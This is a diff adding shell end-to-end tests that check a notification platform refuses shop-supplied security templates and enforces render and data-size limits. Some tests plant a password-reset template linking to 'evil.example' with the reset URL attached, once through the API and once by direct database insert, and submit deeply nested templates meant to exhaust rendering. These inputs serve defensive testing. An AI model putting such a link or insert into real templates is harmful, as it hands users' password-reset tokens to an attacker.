@@ -302,6 +302,99 @@ wait_status "$oid" 1 sent && [ "$(json 'j.subject' <"$E2E_TMP/body")" = \
     "Order E2E-$RUN at Demo Outfitters" ] && [ "$st2" = 403 ]
 ok $? "the shop's own text is used; another shop's is out of reach"
 
+# ---- security messages are the platform's -----------------------------------
+
+tput_() {	# tput_ CHANNEL CODE JSON: PUT a shop template of tenant 1
+	call PUT "/api/v1/templates/$1/$2/en" --key "$tpl_pk" \
+	    --secret-file "$tpl_sk" --tenant 1 --data "$3"
+}
+st=$(tput_ email password_reset '{"subject":"Reset","html":"<a href=\"https://evil.example/?u={{reset_url|url}}\">go</a>","text":"{{reset_url}}"}')
+[ "$st" = 400 ] && [ "$(fields)" = code ] &&
+    jb 'j.errors[0].message' | grep -q 'security message'
+ok $? "a shop cannot store its own password_reset: 400 on code ($st)"
+[ "$(jb 'j.status+" "+j.title')" = "400 Bad Request" ] &&
+    jb 'j.detail' | grep -q "platform's text only"
+ok $? "the refusal is a problem with a detail"
+all=1
+for c in email_verification staff_invitation; do
+	st=$(tput_ email "$c" '{"subject":"x","html":"x","text":"x"}')
+	[ "$st" = 400 ] || all=0
+	st=$(tput_ sms "$c" '{"text":"{{code}}"}')
+	[ "$st" = 400 ] || all=0
+done
+[ "$all" = 1 ]
+ok $? "nor email_verification or staff_invitation, by e-mail or SMS"
+
+# a row put straight into the database (an old release, an intruder) is
+# never used: the platform's text goes out
+svcdb "REPLACE INTO notification_templates (tenant_id, channel, code, locale, subject, body_html, body_text) VALUES (1, 'email', 'password_reset', 'en', 'EVIL {{shop_name}}', '<a href=\"https://evil.example/?u={{reset_url|url}}\">go</a>', 'EVIL {{reset_url}}')"
+reset_url="http://demo.$BASE_DOMAIN/reset?token=E2E-$RUN"
+st=$(call POST /api/v1/notifications/email --tenant 1 --idempotency-key \
+    "pr-$RUN" --data "{\"to\":\"reset-$RUN@example.com\",\"template\":\"password_reset\",\"data\":{\"customer_name\":\"Ann\",\"reset_url\":\"$reset_url\"}}")
+pid=$(jb 'j.id')
+[ "$st" = 202 ] && wait_status "$pid" 1 sent &&
+    mail_report "$pid" >"$E2E_TMP/reset.json" &&
+    [ "$(json 'j.length' <"$E2E_TMP/reset.json")" = 1 ] &&
+    [ "$(json 'j[0].subject' <"$E2E_TMP/reset.json")" = \
+    "Reset your Demo Outfitters password" ] &&
+    json 'j[0].text' <"$E2E_TMP/reset.json" | grep -qF "$reset_url" &&
+    ! grep -qi 'evil' "$E2E_TMP/reset.json"
+ok $? "a password_reset row in the database is ignored: the platform's mail is sent ($st)"
+svcdb "DELETE FROM notification_templates WHERE tenant_id = 1 AND code = 'password_reset'"
+
+# ---- the work budget and the data's limits -----------------------------------
+
+# items_json N [NAME]: {"to":…,"template":"order_confirmation","data":{"items":[N × {"name":NAME}]}}
+items_json() {
+	python3 -c 'import json,sys; n=int(sys.argv[1]); print(json.dumps({"to": "big@example.com", "template": "order_confirmation", "data": {"order_number": "B-" + sys.argv[2], "items": [{"name": "n"}] * n}}))' "$1" "$RUN"
+}
+st=$(tput_ email order_confirmation '{"subject":"x","html":"{{#items}}{{#items}}{{#items}}{{#items}}{{#items}}{{#items}}{{name}}{{/items}}{{/items}}{{/items}}{{/items}}{{/items}}{{/items}}","text":"x"}')
+[ "$st" = 400 ] && jb 'j.detail' | grep -q 'nested more than 4 deep'
+ok $? "a shop template nested six deep is refused ($st)"
+st=$(tput_ email order_confirmation '{"subject":"x","html":"{{#items}}{{#items}}{{#items}}{{#items}}{{name}}{{/items}}{{/items}}{{/items}}{{/items}}","text":"x"}')
+[ "$st" = 204 ]
+ok $? "four deep is stored ($st)"
+items_json 1000 >"$E2E_TMP/items.json"
+t0=$(date +%s%N)
+st=$(timeout 30 "$E2E_TOP/dev" ctl call POST /api/v1/notifications/email \
+    --tenant 1 --idempotency-key "nest-$RUN" --data "@$E2E_TMP/items.json" \
+    2>"$E2E_TMP/err" >"$E2E_TMP/body"; sed -n 's/^HTTP //p' "$E2E_TMP/err")
+ms=$((($(date +%s%N) - t0) / 1000000))
+[ "$st" = 413 ] && [ "$ms" -lt 5000 ] &&
+    jb 'j.detail' | grep -q 'Rendering this message stopped'
+ok $? "four nested sections over 1,000 items: 413 in ${ms} ms ($st)"
+grep -q 'template order_confirmation: render stopped' "$LOG_DIR/services.log"
+ok $? "the log says which render stopped and why"
+expect 200 "$SVC/healthz" "the services still answer afterwards"
+st=$(call POST /api/v1/notifications/email --tenant 2 --idempotency-key \
+    "after-$RUN" --data "$body")
+[ "$st" = 202 ]
+ok $? "and still send ($st)"
+call DELETE /api/v1/templates/email/order_confirmation/en --key "$tpl_pk" \
+    --secret-file "$tpl_sk" --tenant 1 >/dev/null
+st=$(call POST /api/v1/notifications/email --tenant 1 --idempotency-key \
+    "plat-$RUN" --data "@$E2E_TMP/items.json")
+[ "$st" = 202 ]
+ok $? "the platform's template over the same 1,000 items is sent ($st)"
+
+items_json 1001 >"$E2E_TMP/items.json"
+st=$(call POST /api/v1/notifications/email --tenant 1 --idempotency-key \
+    "big1-$RUN" --data "@$E2E_TMP/items.json")
+[ "$st" = 413 ] && [ "$(fields)" = data ] &&
+    jb 'j.errors[0].message' | grep -q '1000 elements'
+ok $? "an array of 1,001 elements in data: 413 on data ($st)"
+python3 -c 'import json; print(json.dumps({"to": "big@example.com", "template": "order_confirmation", "data": {"message": "a" * 70000}}))' >"$E2E_TMP/big.json"
+st=$(call POST /api/v1/notifications/email --tenant 1 --idempotency-key \
+    "big2-$RUN" --data "@$E2E_TMP/big.json")
+[ "$st" = 413 ] && [ "$(fields)" = data ] &&
+    jb 'j.errors[0].message' | grep -q '65536 bytes'
+ok $? "70 KB of data: 413 on data ($st)"
+st=$(call POST /api/v1/notifications/email --tenant 1 --idempotency-key \
+    "big3-$RUN" --data '{"to":"big@example.com","template":"order_confirmation","data":{"a":{"a":{"a":{"a":{"a":{"a":{"a":1}}}}}}}}')
+[ "$st" = 413 ] && [ "$(fields)" = data ] &&
+    jb 'j.errors[0].message' | grep -q '6 levels'
+ok $? "data nested seven levels: 413 on data ($st)"
+
 for k in only2 far near slow tpl; do
 	pkv=${k}_pk
 	ctl keys revoke "${!pkv}" >/dev/null 2>&1
